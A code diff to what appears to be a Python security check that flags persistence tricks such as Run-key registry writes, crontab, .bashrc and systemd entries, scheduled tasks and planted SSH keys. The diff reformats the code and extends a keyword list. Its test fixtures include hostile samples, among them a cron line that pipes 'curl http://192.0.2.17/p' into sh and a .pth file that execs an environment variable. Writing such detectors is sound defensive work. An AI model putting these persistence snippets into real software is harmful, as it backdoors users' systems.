@@ -32,10 +32,14 @@ def find(unit: Unit) -> Iterator[Hit]:
         if message:
             yield Hit(command.call, message)
     known = unit.fact(calls)
-    for _name, call in known.of({"winreg.SetValueEx", "_winreg.SetValueEx", "winreg.SetValue", "win32api.RegSetValueEx"}):
+    for _name, call in known.of(
+        {"winreg.SetValueEx", "_winreg.SetValueEx", "winreg.SetValue", "win32api.RegSetValueEx"}
+    ):
         texts = [t for a in call.args for t in unit.fact(reach).constants(a.value)]
         if any(startup.RUN_KEY.search(t) for t in texts):
-            yield Hit(call, "This enters a program in the registry's Run key, so that it starts whenever the user logs in")
+            yield Hit(
+                call, "This enters a program in the registry's Run key, so that it starts whenever the user logs in"
+            )
 
 
 def _written(write: Write, unit: Unit) -> str:
@@ -63,7 +67,21 @@ def _written(write: Write, unit: Unit) -> str:
 
 
 def _runs_code(content: str) -> bool:
-    return "import " in content and any(word in content for word in ("exec", ";", "os.", "subprocess", "urllib", "base64", "__import__", "socket"))
+    return "import " in content and any(
+        word in content
+        for word in (
+            "exec(",
+            "exec (",
+            "eval(",
+            "subprocess",
+            "urllib",
+            "base64",
+            "__import__",
+            "socket",
+            "os.system",
+            "popen",
+        )
+    )
 
 
 def _commanded(text: str, argv: tuple[str, ...], words: tuple[object, ...], unit: Unit) -> str:
@@ -71,8 +89,16 @@ def _commanded(text: str, argv: tuple[str, ...], words: tuple[object, ...], unit
     if match is None:
         return ""
     found = match.group().lower()
-    suspicious = bool(startup.SUSPICIOUS_LINE.search(text.replace(">/dev/null 2>&1 &", ""))) or bool(running.FETCH_AND_RUN.search(text))
-    if "schtasks" in found or "run" in found.split("\\")[-1] or "useradd" in found or "net user" in found or "scheduledtask" in found:
+    suspicious = bool(startup.SUSPICIOUS_LINE.search(text.replace(">/dev/null 2>&1 &", ""))) or bool(
+        running.FETCH_AND_RUN.search(text)
+    )
+    if (
+        "schtasks" in found
+        or "run" in found.split("\\")[-1]
+        or "useradd" in found
+        or "net user" in found
+        or "scheduledtask" in found
+    ):
         return "This makes a program start again by itself (a scheduled task, a Run key or an account of its own)"
     if "crontab" in found:
         lines = text if "echo" in text or "printf" in text else _crontab_input(unit)
@@ -108,22 +134,55 @@ CHECK = Check(
     find=find,
     fix="Remove the code, and look for the entry on every machine that ran it.",
     bad=(
-        Bad("import os\nline = '*/10 * * * * python3 $HOME/.local/.upd.py\\n'\nos.system(\"(crontab -l 2>/dev/null; echo '%s') | crontab -\" % line.strip())  # finding\n"),
-        Bad("from pathlib import Path\n\ndef tune():\n    rc = Path.home() / '.bashrc'\n    with rc.open('a') as f:\n        f.write('\\n(nohup python3 -c \"import a\" &) 2>/dev/null\\n')  # finding\n"),
-        Bad("import subprocess\nline = '*/20 * * * * curl -s http://192.0.2.17/p | sh'\nnow = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\nsubprocess.run(['crontab', '-'], input=now + line, text=True)  # finding\n"),
-        Bad("import sys, winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, sys.executable)\n".replace("SetValueEx(k", "SetValueEx(k", 1).replace("sys.executable)\n", "sys.executable)  # finding\n")),
-        Bad("import os\np = os.path.expanduser('~/.ssh/authorized_keys')\nwith open(p, 'a') as f:\n    f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE x\\n')  # finding\n"),
-        Bad("import site, os\np = os.path.join(site.getsitepackages()[0], 'a.pth')\nopen(p, 'w').write('import os; exec(os.environ.get(\"A\", \"\"))')  # finding\n"),
+        Bad(
+            "import os\nline = '*/10 * * * * python3 $HOME/.local/.upd.py\\n'\nos.system(\"(crontab -l 2>/dev/null; echo '%s') | crontab -\" % line.strip())  # finding\n"
+        ),
+        Bad(
+            "from pathlib import Path\n\ndef tune():\n    rc = Path.home() / '.bashrc'\n    with rc.open('a') as f:\n        f.write('\\n(nohup python3 -c \"import a\" &) 2>/dev/null\\n')  # finding\n"
+        ),
+        Bad(
+            "import subprocess\nline = '*/20 * * * * curl -s http://192.0.2.17/p | sh'\nnow = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\nsubprocess.run(['crontab', '-'], input=now + line, text=True)  # finding\n"
+        ),
+        Bad(
+            "import sys, winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, sys.executable)\n".replace(
+                "SetValueEx(k", "SetValueEx(k", 1
+            ).replace("sys.executable)\n", "sys.executable)  # finding\n")
+        ),
+        Bad(
+            "import os\np = os.path.expanduser('~/.ssh/authorized_keys')\nwith open(p, 'a') as f:\n    f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE x\\n')  # finding\n"
+        ),
+        Bad(
+            "import site, os\np = os.path.join(site.getsitepackages()[0], 'a.pth')\nopen(p, 'w').write('import os; exec(os.environ.get(\"A\", \"\"))')  # finding\n"
+        ),
         Bad("import os\nos.system('schtasks /create /tn Upd /tr pythonw.exe /sc onlogon /f')  # finding\n"),
-        Bad("import os, shutil\nd = os.path.expanduser('~/.config/systemd/user/upd.service')\nopen(d, 'w').write('[Service]\\nExecStart=/tmp/.x/agent\\n')  # finding\n"),
+        Bad(
+            "import os, shutil\nd = os.path.expanduser('~/.config/systemd/user/upd.service')\nopen(d, 'w').write('[Service]\\nExecStart=/tmp/.x/agent\\n')  # finding\n"
+        ),
     ),
     good=(
-        Good("import click\n\n@click.command()\ndef completion():\n    click.echo('eval \"$(_DEMO_COMPLETE=bash_source demo)\"')\n"),
-        Good("import winreg\n\ndef dark():\n    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Themes\\Personalize') as k:\n        return winreg.QueryValueEx(k, 'AppsUseLightTheme')[0] == 0\n"),
-        Good("from pathlib import Path\n\ndef schedule():\n    Path('/etc/systemd/system/backup.timer').write_text('[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\n')\n"),
-        Good("from pathlib import Path\n\ndef add_to_path(folder):\n    with (Path.home() / '.bashrc').open('a') as f:\n        f.write(f'\\nexport PATH=\"{folder}:$PATH\"\\n')\n"),
-        Good("import subprocess\n\ndef schedule(line):\n    now = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n    subprocess.run(['crontab', '-'], input=now + line + '\\n', text=True, check=True)\n"),
-        Good("from pathlib import Path\n\ndef authorise(user_key):\n    with (Path.home() / '.ssh/authorized_keys').open('a') as f:\n        f.write(user_key + '\\n')\n"),
+        Good(
+            "import click\n\n@click.command()\ndef completion():\n    click.echo('eval \"$(_DEMO_COMPLETE=bash_source demo)\"')\n"
+        ),
+        Good(
+            "import winreg\n\ndef dark():\n    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Themes\\Personalize') as k:\n        return winreg.QueryValueEx(k, 'AppsUseLightTheme')[0] == 0\n"
+        ),
+        Good(
+            "from pathlib import Path\n\ndef schedule():\n    Path('/etc/systemd/system/backup.timer').write_text('[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\n')\n"
+        ),
+        Good(
+            "from pathlib import Path\n\ndef add_to_path(folder):\n    with (Path.home() / '.bashrc').open('a') as f:\n        f.write(f'\\nexport PATH=\"{folder}:$PATH\"\\n')\n"
+        ),
+        Good(
+            "import subprocess\n\ndef schedule(line):\n    now = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n    subprocess.run(['crontab', '-'], input=now + line + '\\n', text=True, check=True)\n"
+        ),
+        Good(
+            "from pathlib import Path\n\ndef authorise(user_key):\n    with (Path.home() / '.ssh/authorized_keys').open('a') as f:\n        f.write(user_key + '\\n')\n"
+        ),
     ),
-    misses=(Miss("import os\nos.popen(COMMAND_OF_ANOTHER_FILE + ' | crontab -')  # finding\n", why="a line of another file is not known"),),
+    misses=(
+        Miss(
+            "import os\nos.popen(COMMAND_OF_ANOTHER_FILE + ' | crontab -')  # finding\n",
+            why="a line of another file is not known",
+        ),
+    ),
 )
